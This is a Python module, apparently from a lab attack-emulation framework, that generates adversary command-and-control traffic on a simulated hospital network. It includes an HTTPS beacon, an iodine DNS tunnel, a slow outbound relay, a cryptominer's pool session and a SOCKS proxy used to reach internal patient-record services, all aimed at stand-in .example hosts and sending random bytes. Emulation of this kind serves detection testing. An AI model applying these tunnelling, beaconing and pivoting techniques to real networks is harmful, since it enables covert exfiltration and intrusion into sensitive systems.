"""How the adversary's programs are told what to do."""

import json
import socket

from ..plan import HOSTS
from ..work import Work, attack
from .means import asks, by, https, turns
from .servers import POOL_PORT, RELAY_PORT, TUNNEL_DOMAIN, TUNNEL_PASSWORD, TUNNEL_PORT, TUNNEL_SERVER

_PROXY_PORT = 1080


@attack("https-beacon", causes=asks("cdn-telemetry.example"))
def https_beacon(w: Work, intensity: str) -> None:
    """A program asks for orders over HTTPS: every lab minute for 3 real minutes, every 4 with 20 % jitter for 8, or every 15
    with 50 % jitter to the end."""
    count, period, jitter = by(intensity, (48, 60, 0.05), (32, 240, 0.2), (200, 900, 0.5))
    for turn in turns(w, count, period, jitter):
        if turn % 8 == 7:
            https(w, "cdn-telemetry.example", "/v1/result", w.rng.randbytes(w.rng.randrange(300, 4000)))
        else:
            https(w, "cdn-telemetry.example", f"/v1/task?id={w.rng.getrandbits(32):08x}")


@attack("dns-tunnel", causes=asks(TUNNEL_DOMAIN))
def dns_tunnel(w: Work, intensity: str) -> None:
    """A tunnel in DNS queries (iodine) through the hospital's resolver carries orders and answers: 100 kB and lively, 24 kB,
    or 3 kB with long pauses."""
    said = open(w.dir / "iodine.out", "wb")
    client = w.start("iodine", "-f", "-4", "-r", "-T", "TXT", "-m", by(intensity, 600, 400, 180),
                     "-I", by(intensity, 2, 10, 40), "-L", 1, "-P", TUNNEL_PASSWORD, HOSTS["infra"].v4, TUNNEL_DOMAIN,
                     stdout=said, stderr=said)
    try:
        w.pause(6)
        if client.poll() is not None:
            raise OSError("the tunnel does not stand")
        size, count, period = by(intensity, (10_000, 10, 64), (2_400, 10, 160), (300, 10, 400))
        w.attempt(_talk, w, size, count, period)
    finally:
        client.terminate()
        client.wait()
        w.log((w.dir / "iodine.out").read_text()[-300:])


def _talk(w: Work, size: int, count: int, period: float) -> None:
    """Sends `count` lines of `size` bytes to the tunnel's far end."""
    with socket.create_connection((TUNNEL_SERVER, TUNNEL_PORT), timeout=60) as far:
        for _ in turns(w, count, period, 0.3):
            far.sendall(w.rng.randbytes(size // 2).hex().encode() + b"\n")
            w.log(f"tunnel: {far.recv(100)!r}")


@attack("slow-connection", causes=asks("relay-status.example"))
def slow_connection(w: Work, intensity: str) -> None:
    """One long TCP connection to outside carries a few bytes now and then: every 2, 10 or 45 real seconds, to the end or 100
    times."""
    w.attempt(_slow, w, by(intensity, 32, 160, 720))


def _slow(w: Work, period: float) -> None:
    with socket.create_connection((socket.gethostbyname("relay-status.example"), RELAY_PORT), timeout=60) as far:
        for _ in turns(w, 100, period, 0.4):
            far.sendall(w.rng.randbytes(w.rng.randrange(6, 40)).hex().encode() + b"\n")
            far.recv(100)


@attack("cryptominer", causes=asks("pool.hash-rate.example"))
def cryptominer(w: Work, intensity: str) -> None:
    """A miner keeps a connection to its pool and hands in shares (Stratum, JSON lines): every 2, 8 or 30 real seconds, for 3
    to 8 minutes."""
    count, period = by(intensity, (90, 32), (40, 128), (16, 480))
    w.attempt(_mine, w, count, period)


def _mine(w: Work, count: int, period: float) -> None:
    with socket.create_connection((socket.gethostbyname("pool.hash-rate.example"), POOL_PORT), timeout=60) as pool:
        def say(number: int, method: str, *parameters: str) -> None:
            pool.sendall(json.dumps({"id": number, "method": method, "params": parameters}).encode() + b"\n")
            pool.recv(65536)

        say(1, "mining.subscribe", "cpuminer/2.5.1")
        say(2, "mining.authorize", "worker.17", "x")
        for turn in turns(w, count, period, 0.5):
            say(turn + 3, "mining.submit", "worker.17", f"{turn:x}", f"{w.rng.getrandbits(32):08x}",
                f"{w.rng.getrandbits(32):08x}")


@attack("inward-proxy")
def inward_proxy(w: Work, intensity: str) -> None:
    """A proxy (microsocks) on this workstation lets the adversary look at inner web services from outside: 30 requests at
    once, 12 with pauses, or 4 with long ones."""
    proxy = w.start("microsocks", "-p", _PROXY_PORT)
    here = w.host.v4
    pages = (f"http://{HOSTS['pacs'].v4}:8042/patients", f"http://{HOSTS['pacs'].v4}:8042/studies",
             f"http://{HOSTS['his'].v4}:8080/", f"http://{HOSTS['pacs'].v4}:8042/system")
    count, period = by(intensity, (30, 12), (12, 80), (4, 480))
    w.pause(1)
    with w.on("adversary"):
        for turn in turns(w, count, period, 0.4):
            w.run("curl", "-s", "-o", "/dev/null", "--max-time", 20, "--socks5", f"{here}:{_PROXY_PORT}",
                  pages[turn % len(pages)])
    proxy.terminate()
    proxy.wait()
